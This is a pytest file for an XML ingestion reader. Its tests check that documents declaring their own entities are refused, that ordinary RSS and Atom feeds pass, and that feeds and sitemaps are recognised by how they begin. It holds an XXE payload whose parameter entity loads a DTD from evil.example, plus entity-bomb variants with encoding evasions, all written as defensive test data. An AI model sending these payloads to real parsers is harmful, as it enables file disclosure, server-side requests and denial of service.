"""XML that declares entities of its own is refused before any parser sees it."""

from __future__ import annotations

import pytest

from ingest.readers.listing import listed
from ingest.readers.xml_text import root_of, xml_text
from rag.errors import SourceRejected
from tests.ingest.site.feeds import ATOM, RSS
from tests.ingest.site.hostile import LAUGHS, OUTSIDE

NESTED = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><a/>'
)


@pytest.mark.parametrize(
    "data",
    [
        LAUGHS.encode(),
        OUTSIDE.encode(),
        NESTED.encode(),
        LAUGHS.replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16"),
        b"\xef\xbb\xbf" + LAUGHS.encode(),
        b"\n\n" + LAUGHS.encode(),  # not well-formed, but lenient parsers go on
        LAUGHS.replace('"1.0"', '"1.0" encoding="none-such"').encode(),
        LAUGHS.lower().replace("<!doctype", "<!DOCTYPE").encode(),
    ],
)
def test_xml_that_declares_entities_is_refused(data: bytes) -> None:
    with pytest.raises(SourceRejected, match="entities of its own"):
        xml_text(data, source="x")


@pytest.mark.parametrize(
    "data",
    [
        RSS.encode(),
        ATOM.encode(),
        b'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://x.example/rss.dtd"><rss/>',
        b"<rss><title>How to write &lt;!ENTITY in XML</title></rss>",
        b"<rss><title><![CDATA[<!ENTITY x 'y'>]]></title></rss>",
        b"<rss><title>cut",
        b"no XML at all",
    ],
)
def test_xml_that_declares_none_passes(data: bytes) -> None:
    assert "<!DOCTYPE" not in xml_text(data, source="x")


@pytest.mark.parametrize(
    ("data", "is_list"),
    [
        (RSS.encode(), True),
        (ATOM.encode("utf-16"), True),
        (b"\xef\xbb\xbf\n" + ATOM.encode(), True),
        (b"<?xml version='1.0'?><?xml-stylesheet href='a'?><!-- made -->\n<urlset/>", True),
        (b"<sitemapindex xmlns='x'>", True),
        (LAUGHS.encode(), True),
        (b"<!DOCTYPE rss PUBLIC '-//x//DTD RSS 0.91//EN' 'x.dtd'><rss>", True),
        (b"<!doctype html><html><body><rss>", False),
        (b"<opml/>", False),
        (b"rss", False),
        (b"", False),
    ],
)
def test_a_feed_or_sitemap_is_known_by_how_it_begins(data: bytes, is_list: bool) -> None:
    assert listed(data) is is_list


def test_what_hides_its_doctype_behind_words_is_no_feed() -> None:
    assert root_of(xml_text(b"words " + LAUGHS.encode(), source="x")) == ""
